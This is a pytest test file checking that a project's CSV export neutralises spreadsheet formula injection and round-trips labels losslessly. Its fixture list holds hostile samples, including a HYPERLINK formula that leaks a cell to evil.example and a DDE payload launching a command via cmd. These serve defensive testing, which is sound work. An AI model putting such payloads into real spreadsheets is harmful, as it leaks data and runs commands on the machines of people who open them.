"""CSV export never writes a formula; import reads the neutralised cells back exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import rdflib

from kktrace import load
from kktrace.spreadsheet import export, import_file, to_turtle
from kktrace.spreadsheet.values import neutralise_formula, restore_formula

BASE = "https://w3id.org/kktrace/id/kk/"
LABELS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=two quotes",
    "'tis an apostrophe",
    "plain = label",
]


def _literal(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + escaped.replace("\t", "\\t").replace("\r", "\\r") + '"'


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("csvinj")
    lines = [
        "@prefix kkt: <https://w3id.org/kktrace/def#> .",
        f"@prefix kk: <{BASE}> .",
        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .",
        "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .",
        'kk:plan-X a kkt:LocalActionPlan ; rdfs:label "Plan X"@da ; skos:notation "plan-X" .',
    ]
    for i, label in enumerate(LABELS):
        lines.append(
            f"kk:inj-{i} a kkt:LocalInitiative ; rdfs:label {_literal(label)}@da ; "
            f'skos:notation "inj-{i}" ; kkt:partOf kk:plan-X .'
        )
    (folder / "hostile.ttl").write_text("\n".join(lines) + "\n")
    return folder


def test_no_cell_starts_a_formula(hostile_folder: Path) -> None:
    text = export(load([hostile_folder]), "csv")
    cells = [
        c for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for c in row
    ]
    assert cells, text
    dangerous = [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert dangerous == [], dangerous
    for label in LABELS[:6]:
        assert "'" + label in cells


def test_csv_round_trip_is_lossless(hostile_folder: Path, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text(export(load([hostile_folder]), "csv"), encoding="utf-8")
    result = import_file(path, base=BASE)
    graph = rdflib.Graph().parse(data=to_turtle(result.triples, BASE), format="turtle")
    labels = {str(o) for o in graph.objects(None, rdflib.RDFS.label)}
    for label in LABELS:
        assert label in labels, (label, sorted(labels))


@pytest.mark.parametrize("text", [*LABELS, "", "'", "''", "-5", "-12,5", "=", "'''x"])
def test_neutralise_then_restore_is_identity(text: str) -> None:
    assert restore_formula(neutralise_formula(text)) == text
